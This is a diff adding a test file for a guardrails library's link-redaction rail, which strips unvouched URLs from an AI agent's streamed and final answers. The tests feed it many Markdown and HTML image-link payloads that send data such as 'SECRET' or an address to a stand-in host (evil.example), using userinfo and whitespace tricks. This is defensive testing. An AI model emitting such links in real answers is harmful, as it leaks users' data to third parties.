@@ -1,0 +1,105 @@
+"""Where a link ends for those who follow it: Markdown, HTML, browsers and people do not agree."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from flightloop.verdicts import Stage
+from guardrails.guard import Guard
+from guardrails.policy import parse_policy
+from guardrails.types import GuardContext, Subject
+
+POLICY = """
+name: desk
+version: "1"
+stages:
+  final: {rails: [{rail: links, keep: [user, results], action: redact}]}
+  stream: {rails: [{rail: links, keep: [user, results], action: redact}]}
+tools: {allow: {"*": ["*"]}}
+"""
+SHOP, STRANGER = "https://shop.example", "https://stranger.example/p.png"
+CONTEXT = GuardContext(agent="desk", user_text=f"I was at {SHOP} before", results=(f"note: see {STRANGER} please",))
+
+
+async def shown(answer: str) -> str:
+    """What is left of an answer, which must be the same for a stream."""
+    guard = Guard(parse_policy(POLICY))
+    stream = guard.stream(CONTEXT)
+    streamed = "".join([*(stream.push(sign) for sign in answer), stream.finish()])
+    final = (await guard.check(Subject(Stage.FINAL, answer, CONTEXT))).text
+    assert streamed == final
+    return final
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        STRANGER, f"see {STRANGER}.", f"({STRANGER})", f"**{STRANGER}**", f"<{STRANGER}>", f"[it]({STRANGER})",
+        f'![it]({STRANGER} "title")', f"[it]({STRANGER}), and more", f'<img src="{STRANGER}" alt="it">',
+        f"<a href={STRANGER}>it</a>", f"[it]: {STRANGER}\n", f"{STRANGER}\nnext", f"{SHOP}/any?page=1#part",
+        f"[a]({SHOP}/a)[b]({SHOP}/b)", f"{SHOP}/it's", f"<{SHOP}/a b>",
+    ],
+)  # fmt: skip
+async def test_a_link_that_somebody_vouches_for_stays(answer: str) -> None:
+    assert await shown(answer) == answer
+
+
+@pytest.mark.parametrize("behind", ["'", "{", "|", "^", "`", "}", "]", ")", " ", "\n", "\\", ",", "(", "((", ".)"])
+@pytest.mark.parametrize("form", ["![a](LINK)", "![a](<LINK>)", '<img src="LINK">', "<img src='LINK'>", "see LINK now"])
+async def test_what_stands_behind_a_results_link_goes_nowhere(form: str, behind: str) -> None:
+    if form in ("see LINK now", "![a](LINK)") and behind in (" ", "\n"):
+        return  # the link is over
+    if (form, behind) in (("![a](LINK)", ")"), ("![a](LINK)", ".)"), ("<img src='LINK'>", "'")):
+        return  # so it is here
+    assert "stranger.example" not in await shown(form.replace("LINK", f"{STRANGER}{behind}?d=35-Garden-Way"))
+
+
+@pytest.mark.parametrize("between", ["{", "'", "|", ")", "]", "`", "^"])
+@pytest.mark.parametrize("length", [3, 150, 300, 3000])
+async def test_a_user_before_the_host_is_no_host(between: str, length: int) -> None:
+    for form in ("![a](LINK)", "![a](<LINK>)", "LINK"):
+        if (form, between) == ("![a](LINK)", ")"):
+            continue  # there the link is over
+        link = f"{SHOP}{between}{'a' * length}@evil.example/p?d=SECRET"
+        assert f"{SHOP}{between}a" not in await shown(form.replace("LINK", link))
+
+
+@pytest.mark.parametrize("form", ["![a](<LINK>)", '<img src="LINK">'])
+async def test_blanks_do_not_end_a_host_within_brackets(form: str) -> None:
+    assert "shop" not in await shown(form.replace("LINK", f"{SHOP} @evil.example/p?d=SECRET"))
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![a](" + " " * 9 + "//EVIL)", "![a](" + " " * 8 + "\n//EVIL)", "[b]:" + "\t" * 30 + "//EVIL",
+        "<img src=" + " " * 9 + '"//EVIL">', "![a](" + " " * 9 + "https:EVIL)", '<img srcset="x 1x, //EVIL 2x">',
+        '@import "//EVIL";', "<img src='/\n/EVIL'>", "<img src='ht\ttps://EVIL'>", "<img src=' h\nttps:EVIL'>",
+        "look at www.EVIL", "[www.EVIL](x)",
+    ],
+)  # fmt: skip
+async def test_other_ways_to_write_a_link_are_links(answer: str) -> None:
+    assert "evil.example" not in await shown(answer.replace("EVIL", "evil.example/p?d=SECRET"))
+
+
+async def test_text_that_looks_like_it_stays() -> None:
+    for answer in ("either, // or", "a = 1 // b", "x, y, /etc/passwd", "http and https", "www", "a=b/c", "1 // 2, //"):
+        assert await shown(answer) == answer
+
+
+SIGNS = st.text(st.sampled_from(list("ab/\\:.,@()[]<>\"'`{}|?=# \n\t")), max_size=12)
+
+
+BEFORE = st.sampled_from(["", " ", "(", "[", "<", '"', "**", "x ", "= ", "=", "]:", "url(", "\n"])
+
+
+@settings(deadline=None, max_examples=300)
+@given(BEFORE, SIGNS, st.sampled_from(["![a](LINK)", "![a](<LINK>)", '<img src="LINK">', "LINK"]))
+async def test_no_sign_lets_a_stranger_have_more_than_its_link(before: str, behind: str, form: str) -> None:
+    """Whatever stands around it: what is kept of a result's host is the link alone."""
+    left = await shown(form.replace("LINK", f"{before}{STRANGER}{behind}secret"))
+    if "stranger.example" in left:
+        after = left.split(STRANGER, 1)[1]
+        assert "secret" not in after or any(sign in after.split("secret")[0] for sign in " \n\t<>\"')]")
